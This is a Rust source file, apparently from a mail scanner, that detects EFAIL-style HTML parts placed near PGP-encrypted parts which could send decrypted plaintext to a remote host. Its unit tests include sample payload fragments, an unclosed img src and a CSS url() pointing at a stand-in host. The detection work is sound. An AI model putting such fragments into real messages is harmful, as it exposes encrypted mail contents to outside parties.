//! Pages beside what is encrypted: a reader that decrypts may put both into one page, which sends the plain text away (EFAIL).
//!
//! Owns the shapes of it. It must never open anything. Nothing here fails.

use super::{opaque, place};
use crate::config::{Disarm, Settings};
use crate::finding::{Class, Finding};
use crate::html;
use crate::message::{Message, Part};

pub(super) const NAME: &str = "efail";

pub(super) fn run(message: &Message<'_>, settings: &Settings) -> Vec<Finding> {
    if settings.html.disarm == Disarm::Off || !message.is_looked_into() {
        return Vec::new();
    }
    let encrypted: Vec<usize> = indices(message, |part| opaque::is_encrypted(message, part));
    if encrypted.is_empty() {
        return Vec::new();
    }
    let pages = indices(message, |part| !part.content.is_container() && html::is_page(&part.content.media_type, &part.content.names));
    pages.into_iter().filter_map(|page| judge(message, page, &encrypted)).collect()
}

fn indices(message: &Message<'_>, is_one: impl Fn(&Part) -> bool) -> Vec<usize> {
    message.parts().iter().enumerate().filter(|(_, part)| is_one(part)).map(|(index, _)| index).collect()
}

fn judge(message: &Message<'_>, page: usize, encrypted: &[usize]) -> Option<Finding> {
    let part = message.parts().get(page)?;
    let is_open = message.decoded(part).any(|body| html::is_open_at_end(&body));
    // A whole part that is encrypted; armour in the text that the page is another form of is what programs send.
    let is_beside = encrypted.iter().any(|other| {
        let is_text = message.parts().get(*other).is_some_and(|part| part.content.media_type.starts_with("text/"));
        *other != page && !is_text && !is_inside(message, page, *other)
    });
    let what = match (is_open, is_beside) {
        (true, true) => "page that swallows an encrypted part",
        (true, false) if !encrypted.contains(&page) => "page that swallows an encrypted text",
        (false, true) => "page beside an encrypted part",
        _ => return None,
    };
    let evidence = "a reader that decrypts in place would send the plain text where the page says".to_owned();
    Some(Finding { class: Class::Active, engine: NAME.to_owned(), what: what.to_owned(), evidence, place: place(message, page) })
}

fn is_inside(message: &Message<'_>, index: usize, holder: usize) -> bool {
    std::iter::successors(Some(index), |part| message.parts().get(*part)?.parent).any(|around| around == holder)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::Bounds;

    fn told(parts: &[&str]) -> Vec<String> {
        let parts: String = parts.iter().map(|part| format!("--b\n{part}\n")).collect();
        let text = format!("Content-Type: multipart/mixed; boundary=b\n\n{parts}--b--\n");
        let bounds = Bounds { nesting: 9, parts: 99, header_size: 9999, decoded_size: 9999 };
        run(&Message::read(text.as_bytes(), &bounds), &Settings::default()).into_iter().map(|finding| finding.what).collect()
    }

    const ENCRYPTED: &str =
        "Content-Type: multipart/encrypted; boundary=c\n\n--c\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--c\n\nx\n--c--";
    const OPEN: &str = "Content-Type: text/html\n\n<img src=\"http://a.example/?";

    #[test]
    fn a_page_that_an_encrypted_part_would_fall_into_is_told() {
        let page = "Content-Type: text/html\n\n<p>text</p>";
        let style = "Content-Type: text/html\n\n<style>p { background: url(http://a.example/";
        let armour = "Content-Type: text/plain\n\n-----BEGIN PGP MESSAGE-----\n\nx\n-----END PGP MESSAGE-----";
        let text = "Content-Type: text/plain\n\nlist footer";
        let swallows = "page that swallows an encrypted part";
        let table: [(&[&str], &[&str]); 7] = [
            (&[OPEN, ENCRYPTED, page], &[swallows, "page beside an encrypted part"]),
            (&[style, ENCRYPTED], &[swallows]),
            (&[ENCRYPTED, text], &[]),
            (&[ENCRYPTED], &[]),
            (&[OPEN, text], &[]),
            (&[OPEN, armour], &["page that swallows an encrypted text"]),
            (&[page, armour], &[]),
        ];
        for (parts, expected) in table {
            assert_eq!(told(parts), expected, "{parts:?}");
        }
    }
}
